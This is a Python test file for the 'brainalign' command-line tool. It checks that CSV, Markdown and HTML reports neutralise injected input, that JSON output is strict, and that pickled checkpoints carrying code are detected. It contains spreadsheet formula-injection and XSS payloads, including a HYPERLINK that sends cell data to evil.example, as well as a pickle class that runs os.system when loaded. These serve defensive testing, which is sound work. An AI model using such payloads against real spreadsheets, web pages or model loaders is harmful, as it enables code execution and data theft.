"""Hostile and broken input through the CLI: each class ends as a correct result or one `error:` line.

- text that a spreadsheet runs as a formula, or that renders as HTML/links in Markdown, reaches
  the CSV and Markdown reports inert;
- every JSON brainalign writes is strict (no bare NaN/Infinity), and old records with NaN read;
- a folder given where a file is written (or a file where a folder is, or a path below a file)
  is refused before any work, for every output option;
- a checkpoint whose pickle imports code is named as such and loads only with --trust-checkpoint;
- activations with NaN/Inf (NaN weights) are never written.
"""

from __future__ import annotations

import csv
import html
import io
import json
import math
import os
import pickle
import re
import subprocess
import sys
from pathlib import Path

import click
import numpy as np
import pandas as pd
import pytest
import torch
from cli_helpers import error_line, run
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from test_reports_data import neural_record

from brainalign.cli import main
from brainalign.cli._common import OutputPath
from brainalign.models.pickle_scan import pickled_globals
from brainalign.reports import ResultsStore
from brainalign.reports.escape import FORMULA_PREFIXES, csv_text, markdown_text
from brainalign.safe_files import dumps_json

ROOT = Path(__file__).resolve().parents[1]
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+2", "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "<script>alert(1)</script>",
           "<img src=x onerror=alert(1)>", "[click](javascript:alert(1))", "![x](http://evil.example/t.png)",
           "a|b|c", "`code`", "*bold* _it_ ~~gone~~", "line\nbreak | =1+2"]


def _strict(text: str):
    """``json.loads`` that refuses the NaN/Infinity tokens, as browsers and jq do."""
    def refuse(token):
        raise ValueError(f"non-JSON token {token}")
    return json.loads(text, parse_constant=refuse)


def _markdown_html(text: str) -> str:
    """HTML of GitHub-flavoured Markdown (CommonMark with raw HTML allowed, tables, strikethrough)."""
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)


# --- spreadsheet formulas and Markdown ------------------------------------------------------------

def _hostile_records() -> list[dict]:
    """One record per hostile string, the string in every text field a user controls."""
    records = []
    for i, text in enumerate(HOSTILE):
        record = neural_record("pixels", "sim.V1", 0)
        record["model"].update(spec=text, tag=text, objective=text, run=text, architecture=text, training_data=text,
                               weights_sha256=f"{i:064x}")
        record["layer"] = text
        record["benchmark"].update(identifier=f"sim.{text}", region=text, version=text)
        record["score"].update(raw=-0.25, convention=text)   # a negative number stays a number
        record["key"] = f"{i:064x}"
        records.append(record)
    return records


@pytest.fixture(scope="module")
def hostile_reports(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    store = ResultsStore(root / "results")
    for record in _hostile_records():
        store.write(record)
    out = {name: root / name for name in ("board.csv", "layers.csv", "summary.csv", "report.md", "report.html")}
    result = run("report", "--results", root / "results", "--csv", out["board.csv"], "--layers-csv",
                 out["layers.csv"], "--summary-csv", out["summary.csv"], "--markdown", out["report.md"],
                 "--html", out["report.html"], "--title", "<script>alert('title')</script> =1+2")
    assert result.exit_code == 0, result.output
    return out


@pytest.mark.parametrize("name", ["board.csv", "layers.csv", "summary.csv"])
def test_no_csv_cell_is_a_formula_and_numbers_stay_numbers(hostile_reports, name):
    with hostile_reports[name].open(newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    for row in rows:
        assert len(row) == len(rows[0])
        for cell in row:
            if cell.startswith(FORMULA_PREFIXES):
                float(cell)          # only a number may start with - or +
    cells = {cell for row in rows for cell in row}
    assert "'=1+2" in cells and "'@SUM(A1:A9)" in cells and "'\t=1+1" in cells
    assert "=1+2" not in cells
    table = pd.read_csv(hostile_reports[name])
    if name == "layers.csv":
        assert table["raw"].dtype == float and (table["raw"] == -0.25).all()
        quoted = {"'" + t if t.startswith(FORMULA_PREFIXES) else t for t in HOSTILE}
        assert set(table["layer"]) == {t.replace("\r", "\n") for t in quoted}


def test_markdown_report_renders_no_html_link_or_image(hostile_reports):
    text = hostile_reports["report.md"].read_text(encoding="utf-8")
    rendered = _markdown_html(text)
    assert not re.search(r"<(?!/?(h1|h2|p|table|thead|tbody|tr|th|td)[ >])", rendered), rendered
    cells = [html.unescape(c) for c in re.findall(r"<td>(.*?)</td>", rendered)]
    for hostile in HOSTILE:   # every name arrives whole, as text, in its own cell
        label = " ".join(hostile.splitlines()).strip()
        assert any(c.startswith(label) for c in cells), label
    header = re.search(r"<h1>(.*?)</h1>", rendered).group(1)
    assert html.unescape(header) == "<script>alert('title')</script> =1+2"


def test_html_report_stays_escaped(hostile_reports):
    page = hostile_reports["report.html"].read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in page and "<img src=x onerror" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


_TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30)
_NAME = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), min_size=1, max_size=20)


@settings(max_examples=25, deadline=None)
@given(spec=_NAME, layer=_NAME, tag=_NAME, region=_NAME)
def test_report_of_any_names_keeps_every_cell_inert(spec, layer, tag, region):
    """Fuzz over the CLI: whatever the names, every CSV cell is inert and the Markdown renders no tag."""
    import tempfile

    record = neural_record("pixels", "sim.V1", 1)
    record["model"].update(spec=spec, tag=tag)
    record["layer"], record["benchmark"]["region"] = layer, region
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        ResultsStore(root / "r").write(record)
        result = run("report", "--results", root / "r", "--layers-csv", root / "l.csv", "--markdown", root / "r.md")
        assert result.exit_code == 0, result.output
        with (root / "l.csv").open(newline="", encoding="utf-8") as handle:
            header, row = list(csv.reader(handle))
        cells = dict(zip(header, row))
        for name, value in (("spec", spec), ("layer", layer), ("tag", tag), ("region", region)):
            assert not cells[name].startswith(FORMULA_PREFIXES) or _is_number(cells[name])
            assert cells[name] == _expected_cell(value)
        rendered = _markdown_html((root / "r.md").read_text(encoding="utf-8"))
        assert not re.search(r"<(?!/?(h1|h2|p|table|thead|tbody|tr|th|td)[ >])", rendered), rendered


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(_TEXT, st.floats(allow_nan=True, allow_infinity=False)), min_size=1, max_size=5))
def test_csv_cells_round_trip_with_only_formulas_quoted(rows):
    table = pd.DataFrame(rows, columns=["name", "value"])
    parsed = list(csv.reader(io.StringIO(csv_text(table), newline="")))
    assert parsed[0] == ["name", "value"]
    assert len(parsed) == len(rows) + 1
    for (name, value), (cell, number) in zip(rows, parsed[1:]):
        assert cell == _expected_cell(name)
        assert (number == "" and math.isnan(value)) or float(number) == value


def _expected_cell(text: str) -> str:
    """OWASP's rule written out: a quote before a formula's first character; CR as LF (keeps the cell quoted)."""
    quoted = "'" + text if text.startswith(FORMULA_PREFIXES) and not _is_number(text) else text
    return quoted.replace("\r\n", "\n").replace("\r", "\n")


def _is_number(text: str) -> bool:
    return re.fullmatch(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", text) is not None


@settings(max_examples=300, deadline=None)
@given(_TEXT)
def test_markdown_text_renders_as_exactly_that_text(text):
    rendered = _markdown_html(f"| h |\n|---|\n| {markdown_text(text)} |\n")
    cells = re.findall(r"<td>(.*?)</td>", rendered, flags=re.S)
    assert len(cells) == 1, rendered
    assert "<" not in cells[0], rendered           # no tag of any kind inside the cell
    assert html.unescape(cells[0]).strip() == " ".join(text.splitlines()).strip()


# --- strict JSON ----------------------------------------------------------------------------------

_JSON_LEAF = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), _TEXT)
_JSON = st.recursive(_JSON_LEAF, lambda inner: st.one_of(st.lists(inner, max_size=4),
                                                          st.dictionaries(_TEXT, inner, max_size=4)), max_leaves=20)


def _finite(value):
    if isinstance(value, float):
        return value if math.isfinite(value) else None
    if isinstance(value, dict):
        return {k: _finite(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_finite(v) for v in value]
    return value


@settings(max_examples=200, deadline=None)
@given(_JSON)
def test_dumps_json_is_strict_and_keeps_every_finite_value(value):
    assert _strict(dumps_json(value)) == _finite(value)


def test_numpy_values_become_plain_json():
    value = {"a": np.float32(np.nan), "b": np.array([[1.5, np.inf], [-np.inf, 2.0]]), "c": np.int64(3),
             "d": np.array([1, 2]), "e": Path("x/y")}
    assert _strict(dumps_json(value)) == {"a": None, "b": [[1.5, None], [None, 2.0]], "c": 3, "d": [1, 2],
                                          "e": "x/y"}


def test_records_and_json_outputs_are_strict_and_old_nan_records_read(tmp_path):
    store = ResultsStore(tmp_path)
    record = neural_record("pixels", "sim.V1", 0)
    record["score"].update(ceiling=math.nan, ceiled=math.nan, error=math.inf)
    path = store.write(record)
    stored = _strict(path.read_text())
    assert stored["score"]["ceiling"] is None and stored["score"]["raw"] == record["score"]["raw"]
    old = neural_record("pixels", "sim.V2", 0)   # as versions before strict JSON wrote it: a bare NaN
    old["score"]["ceiling"] = math.nan
    (store.records_dir / "old.json").write_text(json.dumps({**old, "id": "old"}))
    assert "NaN" in (store.records_dir / "old.json").read_text()
    listed = _strict(run("results", "list", "--results", tmp_path, "--json").output)
    assert {r["benchmark"] for r in listed} == {"sim.V1", "sim.V2"}
    shown = _strict(run("results", "show", "old", "--results", tmp_path).output)
    assert shown["record"]["score"]["ceiling"] is None
    board = _strict(run("report", "--results", tmp_path, "--json").output)
    assert len(board) == 2


def _package_lines(pattern: str) -> set[str]:
    """``path:line`` of every line of the package's source that matches ``pattern``."""
    package = ROOT / "brainalign"
    return {f"{path.relative_to(ROOT)}:{number}" for path in package.rglob("*.py")
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if re.search(pattern, line)}


def test_json_and_report_csv_are_written_through_the_escaping_functions():
    """New writers cannot bypass the root fix: JSON through dumps_json, report CSVs through csv_text."""
    json_writers = {line.rsplit(":", 1)[0] for line in _package_lines(r"\bjson\.dumps?\(")}
    assert json_writers <= {"brainalign/safe_files.py",                   # dumps_json itself
                            "brainalign/activations/cache.py",     # a cache key's hash input, never written
                            "brainalign/records.py",               # part of a record's key, never parsed
                            "brainalign/reports/html.py"}          # a grouping key, read back at once
    csv_writers = {line.rsplit(":", 1)[0] for line in _package_lines(r"\.to_csv\(")}
    assert csv_writers <= {"brainalign/reports/escape.py",         # csv_text itself
                           "brainalign/stimuli/simulated.py",      # brainalign's own cache of generated stimuli
                           "brainalign/neural/importers/dataset.py",  # an imported dataset's metadata, read back
                           "brainalign/neural/importers/rdm.py"}      # an RDM import's stimulus ids, read back


# --- output paths ---------------------------------------------------------------------------------

#: Path options and arguments that brainalign reads (all others must be OutputPath).
READ_PATHS = {("extract", "checkpoint"), ("score", "checkpoint"), ("score", "activations"), ("score", "assembly"),
              ("score", "stimulus_ids"),
              ("score", "reduce_fit"), ("compare", "checkpoint_a"), ("compare", "checkpoint_b"),
              ("models layers", "checkpoint"), ("models inspect", "ckpt"), ("psychometric", "checkpoint"),
              ("psychometric", "raw_data"), ("consistency", "checkpoint"), ("run", "plan"),
              ("data import brainscore", "assembly"), ("data import brainscore", "csv_path"),
              ("data import brainscore", "zip_path"), ("data import cowley2023", "folder"),
              ("data import generic", "responses"), ("data import generic", "metadata"),
              ("data import rdm", "path"), ("data import rdm", "stimulus_ids"),
              ("data import allen-2p", "nwb"), ("data import allen-neuropixels", "nwb"),
              ("report", "results"), ("results list", "results"), ("results show", "results"),
              ("results prune", "results")}


def _commands(group: click.Group, prefix: str = ""):
    for name, command in group.commands.items():
        path = f"{prefix} {name}".strip()
        if isinstance(command, click.Group):
            yield from _commands(command, path)
        else:
            yield path, command


def test_every_written_path_is_an_output_path():
    unclassified = [(path, p.name) for path, command in _commands(main) for p in command.params
                    if isinstance(p.type, click.Path) and not isinstance(p.type, OutputPath)
                    and (path, p.name) not in READ_PATHS]
    assert unclassified == []


#: Commands with a folder (DIR) where a file is written, a file (FILE) where a folder is, or a path below a file.
OUTPUT_CASES = [
    "extract pixels --stimuli sim -o DIR", "extract pixels --stimuli sim -o FILE/acts.nc",
    "report --csv DIR", "report --layers-csv DIR", "report --summary-csv DIR", "report --html DIR",
    "report --markdown DIR", "report --markdown FILE/r.md", "score pixels --benchmark sim.V1 --results FILE",
    "score pixels --benchmark sim.V1 --results FILE/results",
    "psychometric pixels --task orientation --layer pixels --plot DIR", "demo --out FILE", "demo --out FILE/demo",
    "data import generic r.npy --axes stimulus,neuroid --images DIR --name x -o DIR",
    "run plan.yaml --results FILE", "results list --results FILE",
]


@pytest.mark.parametrize("case", OUTPUT_CASES)
def test_an_output_that_cannot_be_written_is_one_line_before_any_work(tmp_path, case):
    (tmp_path / "folder").mkdir()
    (tmp_path / "file.txt").write_text("keep")
    args = [a.replace("DIR", str(tmp_path / "folder")).replace("FILE", str(tmp_path / "file.txt"))
            for a in case.split()]
    before = sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*"))
    line = error_line(run(*args))
    assert "folder" in line or "directory" in line or "is a file" in line, line
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*")) == before
    assert (tmp_path / "file.txt").read_text() == "keep"


def test_a_plan_whose_results_is_a_file_is_one_line(tmp_path):
    (tmp_path / "taken").write_text("keep")
    (tmp_path / "plan.yaml").write_text("results: taken\nmodels: [{spec: pixels}]\nbenchmarks: [sim.V1]\n")
    assert "taken is a file, not a folder" in error_line(run("run", tmp_path / "plan.yaml", "--dry-run"))
    assert (tmp_path / "taken").read_text() == "keep"


def test_click_usage_errors_are_one_line_and_help_stays():
    assert "No such option '--nope'" in error_line(run("score", "pixels", "--nope"))
    assert "No such command 'nope'" in error_line(run("nope"))
    assert "Missing argument 'RESPONSES'" in error_line(run("data", "import", "generic"))
    helped = run("data")
    assert "data [OPTIONS] COMMAND" in helped.output and "error:" not in helped.output


# --- checkpoints that hold code -------------------------------------------------------------------

class _Payload:
    """Unpickling this runs ``os.system(command)``."""

    def __init__(self, command: str):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def _save(obj, path: Path, how: str) -> Path:
    if how == "zip":
        torch.save(obj, path)
    elif how == "legacy":
        torch.save(obj, path, _use_new_zipfile_serialization=False)
    else:   # a plain pickle of one protocol
        path.write_bytes(pickle.dumps(obj, protocol=int(how)))
    return path


@pytest.mark.parametrize("how", ["zip", "legacy", "0", "1", "2", "3", "4", "5"])
def test_a_checkpoint_that_calls_os_system_is_named_and_never_run(tmp_path, how):
    marker = tmp_path / "ran"
    path = _save({"state_dict": {"w": torch.zeros(2)}, "x": _Payload(f"touch {marker}")}, tmp_path / "c.pt", how)
    line = error_line(run("models", "inspect", path))
    assert "holds code that runs when loaded" in line and f"{os.system.__module__}.system" in line
    assert "--trust-checkpoint" in line and "truncated" not in line
    assert not marker.exists()


def test_trusted_code_checkpoint_loads_or_says_why_in_one_line(tmp_path):
    marker = tmp_path / "ran"
    path = _save({"state_dict": {"w": torch.ones(2)}, "x": _Payload(f"touch {marker}")}, tmp_path / "c.pt", "zip")
    trusted = run("models", "inspect", path, "--trust-checkpoint")
    assert trusted.exit_code == 0, trusted.output
    assert re.search(r"^\s*w\s+2$", trusted.output, flags=re.M) and marker.exists()   # it ran: the user trusted it
    torch.save({"x": _Exit()}, tmp_path / "exits.pt")
    line = error_line(run("models", "inspect", tmp_path / "exits.pt", "--trust-checkpoint"))
    assert "could not be unpickled (SystemExit" in line


class _Exit:
    def __reduce__(self):
        return sys.exit, (0,)


class _Recorder(pickle.Unpickler):
    """Reference: the globals that real unpickling resolves (safe here: the test pickles hold no calls)."""

    def __init__(self, file):
        super().__init__(file)
        self.names = set()

    def find_class(self, module, name):
        found = super().find_class(module, name)
        self.names.add(f"{found.__module__}.{found.__qualname__}")
        return found


@pytest.mark.parametrize("protocol", range(6))
def test_pickled_globals_names_what_unpickling_would_import(tmp_path, protocol):
    import argparse
    import collections

    objects = [argparse.Namespace(a=1), argparse.ArgumentParser, os.system, collections.OrderedDict(a=1),
               argparse.Namespace(b=2), "argparse", eval, {"x": argparse.FileType}]
    data = pickle.dumps(objects, protocol=protocol)
    (tmp_path / "p.pkl").write_bytes(data)
    recorder = _Recorder(io.BytesIO(data))
    recorder.load()
    assert set(pickled_globals(tmp_path / "p.pkl")) == recorder.names
    assert {f"{os.system.__module__}.system", "builtins.eval", "argparse.Namespace", "argparse.FileType"} <= recorder.names
    (tmp_path / "cut.pkl").write_bytes(data[:-20])
    (tmp_path / "garbage").write_bytes(b"\x00" * 64)
    assert pickled_globals(tmp_path / "cut.pkl") is None and pickled_globals(tmp_path / "garbage") is None


# --- NaN / Inf weights ----------------------------------------------------------------------------

@pytest.mark.parametrize("value", [math.nan, math.inf])
def test_extract_refuses_non_finite_activations_and_writes_nothing(tmp_path, image_folder, value):
    from brainalign.models import load_model

    state = load_model("timm:test_resnet").module.state_dict()
    state = {k: v.fill_(value) if k.endswith("weight") and v.is_floating_point() else v for k, v in state.items()}
    torch.save(state, tmp_path / "bad.pth")
    result = run("extract", "timm:test_resnet", "--checkpoint", tmp_path / "bad.pth", "--stimuli", image_folder,
                 "--layers", "layer1", "-o", tmp_path / "acts.nc", "-q")
    assert result.exit_code == 2 and "Traceback" not in result.output
    checkpoint_summary, line = result.output.strip().splitlines()
    assert checkpoint_summary.startswith("checkpoint: format plain") and line.startswith("error: ")
    assert "activations of layer 'layer1' contain" in line and "NaN or infinite" in line and "(hint: " in line
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.pth", "images"]   # no acts.nc, no temporary


def test_values_that_overflow_float32_are_refused(tmp_path):
    import xarray as xr

    from brainalign.activations import save_activations
    from brainalign.errors import DataError

    acts = {"l": xr.DataArray(np.array([[1.0, 1e300]]), dims=("stimulus", "unit"),
                              coords={"stimulus_id": ("stimulus", ["a"])})}
    with pytest.raises(DataError, match="1 NaN or infinite value"):
        save_activations(acts, tmp_path / "a.nc", provenance={})
    assert list(tmp_path.iterdir()) == []


# --- the README's test command without the real data ----------------------------------------------

def test_data_tests_skip_without_the_real_data(tmp_path):
    """The data tests of the issue that did not skip, run with the real-data folder empty and absent."""
    tests = ["tests/test_data_cowley.py", "tests/test_kriegeskorte.py", "tests/test_data_brainscore.py"]
    done = subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", *tests],
                          cwd=ROOT, capture_output=True, text=True,
                          env={**os.environ, "BRAINALIGN_SHARED_DATA": str(tmp_path)})   # an empty folder
    assert done.returncode == 0, done.stdout[-3000:]
    assert re.search(r"\b1 passed, \d+ skipped", done.stdout), done.stdout[-500:]
